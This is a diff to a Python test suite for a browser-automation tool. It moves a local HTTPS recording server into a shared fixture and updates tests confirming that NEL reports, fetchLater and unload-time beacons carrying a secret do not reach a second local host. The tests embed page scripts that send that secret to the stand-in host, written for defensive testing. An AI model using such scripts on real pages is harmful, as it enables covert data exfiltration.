@@ -13,12 +13,8 @@ import base64
 import datetime
 import hashlib
 import ipaddress
-import ssl
 import sys
-import threading
 from collections.abc import AsyncIterator, Iterator
-from contextlib import contextmanager
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -36,6 +32,7 @@ from gofer.tools.base import ToolContext
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "site"))
 from harness import call, make_ctx, page_eval, ref, settings_for
+from recording_server import RecordingServer
 
 pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]
 
@@ -60,59 +57,6 @@ def _certificate(folder: Path) -> tuple[Path, Path, str]:
                                            serialization.NoEncryption()))
     spki = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
     return cert_file, key_file, base64.b64encode(hashlib.sha256(spki).digest()).decode()
-
-
-class TlsServer:
-    """An https server on 127.0.0.1 that serves ``pages`` (path -> (headers, HTML); other paths get ``headers``
-    and a small page) and records each request as ``"METHOD PATH BODY"``."""
-
-    def __init__(self, cert: Path, key: Path, host: str) -> None:
-        self.pages: dict[str, tuple[dict[str, str], str]] = {}
-        self.headers: dict[str, str] = {}
-        self.requests: list[str] = []
-        owner = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def _serve(self) -> None:
-                length = int(self.headers.get("content-length") or 0)
-                body = self.rfile.read(length).decode(errors="replace") if length else ""
-                owner.requests.append(f"{self.command} {self.path} {body}")
-                headers, html = owner.pages.get(self.path.split("?")[0], (owner.headers, "<p>ok</p>"))
-                data = html.encode()
-                self.send_response(200)
-                for name, value in {"content-type": "text/html", "access-control-allow-origin": "*",
-                                    "access-control-allow-headers": "*", **headers}.items():
-                    self.send_header(name, value)
-                self.send_header("content-length", str(len(data)))
-                self.end_headers()
-                self.wfile.write(data)
-
-            do_GET = do_POST = do_HEAD = do_OPTIONS = _serve
-
-            def log_message(self, format: str, *args: Any) -> None:
-                return
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.server.daemon_threads = True
-        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-        tls.load_cert_chain(cert, key)
-        self.server.socket = tls.wrap_socket(self.server.socket, server_side=True)
-        self.url = f"https://{host}:{self.server.server_address[1]}"
-
-    def got(self, marker: str = SECRET) -> list[str]:
-        """The recorded requests that carry ``marker``."""
-        return [r for r in self.requests if marker in r]
-
-    @contextmanager
-    def running(self) -> Iterator[TlsServer]:
-        """Serve in a thread until the block ends."""
-        thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-        thread.start()
-        try:
-            yield self
-        finally:
-            self.server.shutdown()
-            self.server.server_close()
 
 
 class _TrustingPool(BrowserPool):
@@ -143,9 +87,9 @@ async def browsers(home: Path, certificate: tuple[Path, Path, str]) -> AsyncIter
 
 
 @pytest.fixture
-def servers(certificate: tuple[Path, Path, str]) -> Iterator[tuple[TlsServer, TlsServer]]:
+def servers(certificate: tuple[Path, Path, str]) -> Iterator[tuple[RecordingServer, RecordingServer]]:
     """The page's site (127.0.0.1) and another host (localhost) that records what reaches it."""
-    site, other = TlsServer(certificate[0], certificate[1], "127.0.0.1"), TlsServer(*certificate[:2], "localhost")
+    site, other = RecordingServer(tls=certificate[:2]), RecordingServer(tls=certificate[:2], host="localhost")
     with site.running(), other.running():
         yield site, other
 
@@ -185,7 +129,7 @@ if (typeof fetchLater === 'function') fetchLater('{other}/later?d={secret}');
 
 
 async def test_reports_network_error_logging_and_fetch_later_reach_no_other_host(
-    tool_ctx: ToolContext, servers: tuple[TlsServer, TlsServer], hook_saw: list[str]
+    tool_ctx: ToolContext, servers: tuple[RecordingServer, RecordingServer], hook_saw: list[str]
 ) -> None:
     site, other = servers
     site.headers = {  # on every answer of the site: its document's endpoints, a NEL policy, a CSP
@@ -194,7 +138,7 @@ async def test_reports_network_error_logging_and_fetch_later_reach_no_other_host
         "NEL": '{"report_to": "nel", "max_age": 3600, "success_fraction": 1.0, "failure_fraction": 1.0}',
         "Content-Security-Policy": "img-src 'self'; report-to csp",
     }
-    site.pages["/page"] = (site.headers, _REPORTING.format(secret=SECRET, other=other.url))
+    site.pages["/page"] = _REPORTING.format(secret=SECRET, other=other.url)
     await call(tool_ctx, "browser_open", url=f"{site.url}/page")
     await call(tool_ctx, "browser_open", url=f"{site.url}/second?d={SECRET}")  # the first page is gone: fetchLater
     await asyncio.sleep(_SETTLE)
@@ -205,13 +149,13 @@ async def test_reports_network_error_logging_and_fetch_later_reach_no_other_host
 
 
 async def test_the_page_still_makes_its_reports_for_itself(
-    tool_ctx: ToolContext, servers: tuple[TlsServer, TlsServer]
+    tool_ctx: ToolContext, servers: tuple[RecordingServer, RecordingServer]
 ) -> None:
     """Reports are turned off for the network only: a page's ReportingObserver still gets them (ordinary pages that
     watch their own CSP or deprecations keep working)."""
     site, other = servers
-    site.pages["/page"] = ({"Content-Security-Policy": "img-src 'self'"}, _REPORTING.format(secret=SECRET,
-                                                                                            other=other.url))
+    site.pages["/page"] = _REPORTING.format(secret=SECRET, other=other.url)
+    site.page_headers["/page"] = {"Content-Security-Policy": "img-src 'self'"}
     result = await call(tool_ctx, "browser_open", url=f"{site.url}/page")
     for kind in ("csp-violation", "deprecation", "intervention"):
         assert kind in result.text, result.text
@@ -236,13 +180,13 @@ _SEND = """for (const type of ['beforeunload', 'pagehide', 'unload', 'visibility
 
 @pytest.mark.parametrize("how", ["navigation", "link", "close", "frame"])
 async def test_what_a_page_sends_as_it_goes_away_reaches_no_other_host(
-    tool_ctx: ToolContext, servers: tuple[TlsServer, TlsServer], hook_saw: list[str], how: str
+    tool_ctx: ToolContext, servers: tuple[RecordingServer, RecordingServer], hook_saw: list[str], how: str
 ) -> None:
     site, other = servers
-    site.pages["/page"] = ({}, _LEAVING.format(other=other.url, send=_SEND.format(other=other.url, secret=SECRET,
-                                                                                 where="page")))
-    site.pages["/child"] = ({}, f"<p>child</p><script>{_SEND.format(other=other.url, secret=SECRET, where='child')}"
-                                "</script>")
+    site.pages["/page"] = _LEAVING.format(other=other.url, send=_SEND.format(other=other.url, secret=SECRET,
+                                                                            where="page"))
+    site.pages["/child"] = f"<p>child</p><script>{_SEND.format(other=other.url, secret=SECRET, where='child')}</script>"
+    site.page_headers.update({"/page": {}, "/child": {}})
     await call(tool_ctx, "browser_open", url=f"{site.url}/page")
     await call(tool_ctx, "browser_click", ref=ref(tool_ctx, "Send"))  # a beacon while the page lives is routed
     if how == "navigation":
@@ -255,7 +199,7 @@ async def test_what_a_page_sends_as_it_goes_away_reaches_no_other_host(
         assert tool_ctx.computer is not None
         await tool_ctx.computer.aclose()
     await asyncio.sleep(_SETTLE)
-    assert not other.got(), other.got()
-    assert other.got("/beacon?d=alive") and f"POST {other.url}/beacon?d=alive" in hook_saw
+    assert not other.leaked(SECRET), other.leaked(SECRET)
+    assert other.leaked("/beacon?d=alive") and f"POST {other.url}/beacon?d=alive" in hook_saw
     if how == "link":  # the link's ping, sent as the page navigates, is routed and arrives
-        assert other.got("/ping?d=alive") and f"POST {other.url}/ping?d=alive" in hook_saw
+        assert other.leaked("/ping?d=alive") and f"POST {other.url}/ping?d=alive" in hook_saw
